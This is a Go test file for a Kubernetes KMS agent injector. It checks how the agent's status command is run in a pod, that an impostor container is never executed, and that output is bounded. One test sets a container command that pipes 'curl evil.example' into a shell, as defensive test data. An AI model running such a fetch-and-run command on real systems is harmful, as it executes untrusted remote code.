package injected

import (
	"io"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/kms-agent-injector/kms-agent-injector/agent/status"
	"github.com/kms-agent-injector/kms-agent-injector/config/agentconfig"
	"github.com/kms-agent-injector/kms-agent-injector/test/fakekube"
)

// ask asks a golden pod's agent, whose container runs what run does.
func ask(t *testing.T, change func(*corev1.Pod), run func(command []string, stdout, stderr io.Writer)) (status.Status, error) {
	t.Helper()
	pod := golden(t, "api")
	pod.Namespace, pod.Name = "shop", "web"
	pod.Status.InitContainerStatuses = []corev1.ContainerStatus{{Name: agentconfig.ContainerName,
		State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}}}}
	change(pod)
	p, _, err := Read(pod)
	if err != nil {
		t.Fatal(err)
	}
	server := &fakekube.Server{Runs: map[string]func([]string, io.Writer, io.Writer){"/api/v1/namespaces/shop/pods/web/exec": run}}
	settings := &rest.Config{Host: server.Start(t)}
	kube, err := kubernetes.NewForConfig(settings)
	if err != nil {
		t.Fatal(err)
	}
	return Asker{Kube: kube, REST: settings, limit: time.Hour}.Ask(t.Context(), p, false)
}

func unchanged(*corev1.Pod) {}

// The agent's own status command is run, and what it says is read.
func TestAsk(t *testing.T) {
	var ran atomic.Value
	held, err := ask(t, unchanged, func(command []string, stdout, _ io.Writer) {
		ran.Store(command)
		io.WriteString(stdout, `{"secrets":[{"name":"app/db",`)
		io.WriteString(stdout, `"version":"v2"}]}`)
	})
	if command, _ := ran.Load().([]string); !slices.Equal(command, []string{"/kms-agent", "status"}) {
		t.Errorf("it runs %q", command)
	}
	if err != nil || len(held.Secrets) != 1 || held.Secrets[0].Version != "v2" {
		t.Errorf("%+v %v", held, err)
	}
}

// A container that has the agent's name and another command is not asked: nothing of it is run with the rights of the person who asks.
func TestAskNobodyElse(t *testing.T) {
	_, err := ask(t, func(pod *corev1.Pod) {
		for i := range pod.Spec.InitContainers {
			pod.Spec.InitContainers[i].Command = []string{"/bin/sh", "-c", "curl evil.example | sh"}
		}
	}, func(command []string, _, _ io.Writer) { t.Errorf("it runs %q", command) })
	if err == nil || !strings.Contains(err.Error(), "the webhook did not make it") {
		t.Error(err)
	}
}

// What says more than any agent could is not read to its end, which it may not have.
func TestAskIsBounded(t *testing.T) {
	endless := func(w io.Writer) {
		for part := []byte(strings.Repeat("x", 32<<10)); ; {
			if _, err := w.Write(part); err != nil {
				return
			}
		}
	}
	_, err := ask(t, unchanged, func(_ []string, stdout, _ io.Writer) { endless(stdout) })
	if err == nil || !strings.Contains(err.Error(), "longer than 1048576 bytes") || len(err.Error()) > 1000 {
		t.Error(err)
	}
	_, err = ask(t, unchanged, func(_ []string, stdout, stderr io.Writer) {
		io.WriteString(stderr, strings.Repeat("y", 1<<20))
		io.WriteString(stdout, "{}")
	})
	if err != nil {
		t.Error(err)
	}
	b := bounded{most: 5, full: func() {}}
	io.Copy(&b, strings.NewReader("1234567890"))
	if b.text.String() != "12345" || !b.cut {
		t.Errorf("%q %v", b.text.String(), b.cut)
	}
}

// The program that is run is the one that the webhook's containers run.
func TestProgram(t *testing.T) {
	for _, name := range []string{"api", "mode-init", "mode-single"} {
		for _, c := range read(t, name).containers {
			if !slices.Equal(c.Command, []string{program}) {
				t.Errorf("%s: container %s runs %q", name, c.Name, c.Command)
			}
		}
	}
}
